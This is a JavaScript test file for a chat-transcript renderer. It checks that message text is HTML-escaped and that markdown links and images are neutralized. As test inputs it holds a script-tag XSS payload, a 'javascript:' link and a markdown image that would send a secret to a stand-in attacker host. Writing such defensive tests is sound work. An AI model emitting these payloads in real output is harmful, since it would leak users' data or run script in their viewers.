// @ts-check
import assert from 'node:assert/strict';
import { test } from 'node:test';
import { transcript } from './transcript.js';

test('a transcript holds roles and text, oldest first, and no HTML that would run', () => {
  const { markdown, plain } = transcript('Chat', [
    { role: 'user', content: 'hello <script>alert(1)</script>' },
    { role: 'assistant', content: 'Hi & **welcome**' },
    { role: 'assistant', content: '' },
  ]);
  assert.match(markdown, /\*\*User:\*\*\n\nhello &lt;script>alert\(1\)&lt;\/script>/);
  assert.match(markdown, /\*\*Assistant:\*\*\n\nHi &amp; \*\*welcome\*\*/);
  assert.ok(markdown.indexOf('User') < markdown.indexOf('Assistant'));
  assert.match(markdown, /2 messages/);
  assert.equal(plain, 'Chat (jupyter-resumechat transcript, 2 messages)\n\nUser: hello <script>alert(1)</script>\n\nAssistant: Hi & **welcome**\n');
});

test('a transcript has no live link or image (a viewer would fetch the URL)', () => {
  const { markdown } = transcript('Chat', [{ role: 'assistant', content: '![x](https://evil.example/p?d=SECRET) [c](javascript:alert(1))' }]);
  assert.ok(!markdown.includes(']('), markdown);
});
